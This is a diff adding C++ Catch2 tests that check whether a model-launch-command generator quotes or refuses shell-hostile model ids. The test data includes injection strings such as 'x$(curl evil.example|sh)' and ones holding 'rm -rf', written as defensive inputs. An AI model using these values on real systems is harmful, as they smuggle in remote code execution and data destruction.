@@ -1,13 +1,20 @@
 #include <catch2/catch.hpp>
 
+#include <algorithm>
+#include <cctype>
 #include <map>
+#include <random>
 #include <set>
 #include <sstream>
 
 #include "test_util.hpp"
 #include "willitfit/api/api.hpp"
 #include "willitfit/catalog/catalog.hpp"
+#include "willitfit/base/base64.hpp"
 #include "willitfit/estimate/launch_commands.hpp"
+#include "willitfit/estimate/estimate.hpp"
+#include "willitfit/gguf/gguf.hpp"
+#include "willitfit/model/quantize.hpp"
 
 using namespace wif;
 using nlohmann::json;
@@ -215,4 +222,233 @@ TEST_CASE("a published GGUF repo for the quant becomes -hf repo:quant", "[comman
   CHECK(c["ollama_modelfile"].get<std::string>().rfind("FROM hf.co/unsloth/GLM-4.5-Air-GGUF:Q4_K_M\n", 0) == 0);
   in.quant = "IQ2_XXS";  // not published there: a local file
   CHECK(parse(words(launch_commands(in)["llama_server"]), 1, kLlamaServer).count("-m") == 1);
+}
+
+namespace {
+
+// A small POSIX sh word parser (XCU 2.3 token recognition, 2.6.7 quote removal) for what a person
+// pastes: words separated by unquoted blanks; '...' literal; "..." with \ escaping $ ` " \ and
+// newline; \ outside quotes escapes the next character. The only operator allowed is "&&",
+// returned as its own token; any other unquoted metacharacter, expansion ($, `), glob (* ? [),
+// comment (#) or leading ~ is a failure: it would make the shell do something beyond the words.
+std::vector<std::string> sh_words(const std::string& cmd) {
+  std::vector<std::string> out;
+  std::string cur;
+  bool in_word = false;
+  auto end_word = [&] {
+    if (in_word) out.push_back(cur);
+    cur.clear();
+    in_word = false;
+  };
+  for (std::size_t i = 0; i < cmd.size(); ++i) {
+    const char c = cmd[i];
+    CAPTURE(cmd, i);
+    if (c == ' ') { end_word(); continue; }
+    if (c == '&' && i + 1 < cmd.size() && cmd[i + 1] == '&' && !in_word) {
+      out.push_back("&&");
+      ++i;
+      continue;
+    }
+    if (c == '\'') {
+      const auto close = cmd.find('\'', i + 1);
+      REQUIRE(close != std::string::npos);
+      cur += cmd.substr(i + 1, close - i - 1);
+      in_word = true;
+      i = close;
+      continue;
+    }
+    if (c == '"') {
+      std::size_t j = i + 1;
+      for (; j < cmd.size() && cmd[j] != '"'; ++j) {
+        REQUIRE(cmd[j] != '$');
+        REQUIRE(cmd[j] != '`');
+        if (cmd[j] == '\\' && j + 1 < cmd.size() && std::string("$`\"\\\n").find(cmd[j + 1]) != std::string::npos) ++j;
+        cur += cmd[j];
+      }
+      REQUIRE(j < cmd.size());
+      in_word = true;
+      i = j;
+      continue;
+    }
+    if (c == '\\') {
+      REQUIRE(i + 1 < cmd.size());
+      cur += cmd[++i];
+      in_word = true;
+      continue;
+    }
+    REQUIRE(std::string("|&;<>()$`*?[\t\n").find(c) == std::string::npos);
+    if (!in_word) REQUIRE((c != '#' && c != '~'));
+    cur += c;
+    in_word = true;
+  }
+  end_word();
+  return out;
+}
+
+// Random model ids, paths and repo names: printable ASCII with every shell-special character
+// weighted up, some UTF-8, spaces, and now and then a control character or a leading dash.
+std::string random_value(std::mt19937& rng) {
+  static const std::string special = " '\"\\$`;|&<>(){}[]*?~!#%^=+,:@/\t\n.-_";
+  std::uniform_int_distribution<int> len(0, 24), pick(0, 9), printable(0x20, 0x7e);
+  std::string s;
+  const int n = len(rng);
+  for (int i = 0; i < n; ++i) {
+    const int k = pick(rng);
+    if (k < 4) s += special[static_cast<std::size_t>(std::uniform_int_distribution<int>(0, static_cast<int>(special.size()) - 1)(rng))];
+    else if (k == 4) s += "\xC3\xA9";  // é
+    else if (k == 5 && pick(rng) == 0) s += static_cast<char>(std::uniform_int_distribution<int>(0, 31)(rng));
+    else s += static_cast<char>(printable(rng));
+  }
+  return s;
+}
+
+bool has_control(const std::string& s) {
+  return std::any_of(s.begin(), s.end(), [](char c) { return static_cast<unsigned char>(c) < 0x20 || c == 0x7f; });
+}
+
+bool plain_file_word(const std::string& s) {
+  if (s.empty() || !std::isalnum(static_cast<unsigned char>(s[0]))) return false;
+  return std::all_of(s.begin(), s.end(), [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '.' || c == '_' || c == '-'; });
+}
+
+// The words of one command from every generator for this model id / repo, checked against the
+// words intended: the id as one word where the engine takes a model, plain file names and tags
+// elsewhere, or the command refused with unsafe_value when no quoting makes the id safe.
+void check_every_generator(const std::string& id, const std::string& repo) {
+  CAPTURE(id, repo);
+  const bool unsafe = id.empty() || id[0] == '-' || has_control(id);
+  Placement p;
+  p.ngl = 33;
+  p.n_layer = 32;
+  VllmBudget b;
+  b.tensor_parallel = 1;
+  b.max_model_len = 8192;
+  b.max_num_seqs = 4;
+  b.max_num_batched_tokens = 2048;
+  b.kv_cache_dtype = "auto";
+
+  LaunchInput g;  // GGUF: llama-server, Ollama, the Modelfile
+  g.model_id = id;
+  g.quant = "Q4_K_M";
+  g.placement = &p;
+  g.gguf = {{repo, "Q4_K_M"}};
+  const json gc = launch_commands(g);
+  const auto ls = sh_words(gc["llama_server"]);
+  const auto lf = parse(ls, 1, kLlamaServer);
+  if (lf.count("-hf")) CHECK(lf.at("-hf") == repo + ":Q4_K_M");
+  else CHECK(plain_file_word(lf.at("-m")));
+  const auto ol = sh_words(gc["ollama"]);
+  REQUIRE(ol.size() == 9);
+  CHECK(ol[0] == "ollama");
+  CHECK(ol[1] == "create");
+  CHECK(plain_file_word(ol[2]));
+  CHECK(ol[5] == "&&");
+  CHECK(ol[8] == ol[2]);
+  // The Modelfile: FROM and PARAMETER lines only, nothing a value could add.
+  std::istringstream mf(gc["ollama_modelfile"].get<std::string>());
+  int lines = 0;
+  for (std::string line; std::getline(mf, line); ++lines) {
+    const auto w = sh_words(line);
+    REQUIRE(w.size() >= 2);
+    if (lines == 0) {
+      CHECK(w[0] == "FROM");
+      REQUIRE(w.size() == 2);
+      CHECK((w[1] == "hf.co/" + repo + ":Q4_K_M" || (w[1].rfind("./", 0) == 0 && plain_file_word(w[1].substr(2)))));
+    } else {
+      CHECK(w[0] == "PARAMETER");
+    }
+  }
+  CHECK(lines == 3);
+
+  for (const std::string engine : {"vllm", "sglang"}) {
+    LaunchInput v;
+    v.model_id = id;
+    v.quant = "SAFETENSORS-BF16";
+    v.gguf_quant = false;
+    v.vllm = &b;
+    v.engine = engine;
+    const json vc = launch_commands(v);
+    if (unsafe) {
+      CHECK(vc["refused"]["sglang"]["code"] == "unsafe_value");
+      CHECK(vc.count("sglang") == 0);
+      CHECK(vc.count("vllm") == 0);
+      continue;
+    }
+    if (engine == "vllm") {
+      const auto w = sh_words(vc["vllm"]);
+      REQUIRE(w.size() > 3);
+      CHECK(w[0] == "vllm");
+      CHECK(w[1] == "serve");
+      CHECK(w[2] == id);
+      (void)parse(w, 3, kVllm);
+    }
+    auto flags = kSglang;
+    flags["--chunked-prefill-size"] = true;  // engine sglang only
+    const auto s = sh_words(vc["sglang"]);
+    CHECK(parse(s, 3, flags).at("--model-path") == id);
+  }
+
+  for (const std::string quant : {"MLX-4bit", "SAFETENSORS-BF16"}) {
+    LaunchInput m;
+    m.model_id = id;
+    m.quant = quant;
+    m.gguf_quant = false;
+    m.kind = DeviceKind::Apple;
+    const json mc = launch_commands(m);
+    if (unsafe) {
+      CHECK(mc["refused"]["mlx"]["code"] == "unsafe_value");
+      CHECK(mc.count("mlx") == 0);
+      continue;
+    }
+    const auto w = sh_words(mc["mlx"]);
+    if (quant != "MLX-4bit") {
+      CHECK(parse(w, 1, {{"--model", true}, {"--port", true}}).at("--model") == id);
+      continue;
+    }
+    const auto amp = std::find(w.begin(), w.end(), "&&");
+    REQUIRE(amp != w.end());
+    const auto conv = parse(std::vector<std::string>(w.begin(), amp), 1,
+                            {{"--hf-path", true}, {"-q", false}, {"--q-bits", true}, {"--q-group-size", true}, {"--mlx-path", true}});
+    CHECK(conv.at("--hf-path") == id);
+    CHECK(plain_file_word(conv.at("--mlx-path")));
+  }
+}
+
+}  // namespace
+
+TEST_CASE("random printable and shell-special model ids and repo names give commands with exactly the intended words", "[commands][shell]") {
+  std::mt19937 rng(20261203);
+  for (int i = 0; i < 3000; ++i) check_every_generator(random_value(rng), i % 3 ? random_value(rng) : "unsloth/Some-Model-GGUF");
+  // The cases of issue 22 and the edges of the rules, by hand.
+  for (const std::string id : {"x$(curl evil.example|sh)", "x`id`", "a b", "it's", "--help", "-x", "", "a\nrm -rf /",
+                               "~/models/llama", "#hash", "m\\n", "\"quoted\"", "ok/Model-1.5B", "./local/path", "é/ü"})
+    check_every_generator(id, "owner/repo");
+}
+
+TEST_CASE("custom and imported models with hostile ids reach the page's commands quoted or refused", "[commands][shell]") {
+  const json cfg = {{"model_type", "llama"}, {"hidden_size", 2048}, {"intermediate_size", 8192}, {"num_attention_heads", 16},
+                    {"num_hidden_layers", 16}, {"num_key_value_heads", 8}, {"vocab_size", 32000}, {"max_position_embeddings", 8192}};
+  for (const std::string id : {"x$(curl evil.example|sh)", "it's; rm -rf ~", "-rf", "a\nb"}) {
+    CAPTURE(id);
+    const json v = estimate({{"model", {{"id", id}, {"config", cfg}}}, {"engine", "vllm"}, {"quant", "SAFETENSORS-BF16"}, {"hardware", "nvidia-rtx-4090"}});
+    REQUIRE_FALSE(v.contains("error"));
+    if (id[0] == '-' || id.find('\n') != std::string::npos) {
+      CHECK(v["commands"]["refused"]["vllm"]["code"] == "unsafe_value");
+      CHECK(v["commands"].count("vllm") == 0);
+    } else {
+      CHECK(sh_words(v["commands"]["vllm"])[2] == id);
+      CHECK(sh_words(v["commands"]["sglang"])[4] == id);
+    }
+    const json g = estimate({{"model", {{"id", id}, {"config", cfg}}}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"}});
+    REQUIRE_FALSE(g.contains("error"));
+    CHECK(plain_file_word(parse(sh_words(g["commands"]["llama_server"]), 1, kLlamaServer).at("-m")));
+    // An imported GGUF header with that id: file names and tags stay plain.
+    const ResolvedModel m = resolve_model(cat(), json{{"config", cfg}}, "model");
+    const TensorPlan plan = plan_quantization(m.arch, "Q4_K_M");
+    const auto bytes = write_gguf_header(gguf_metadata_for(m.arch, "hostile", plan.quant), plan.tensors);
+    const json f = estimate({{"model", {{"id", id}, {"gguf_header_base64", base64_encode(bytes)}}}, {"hardware", "nvidia-rtx-4090"}});
+    REQUIRE_FALSE(f.contains("error"));
+    CHECK(plain_file_word(parse(sh_words(f["commands"]["llama_server"]), 1, kLlamaServer).at("-m")));
+    CHECK(plain_file_word(sh_words(f["commands"]["ollama"])[2]));
+  }
 }
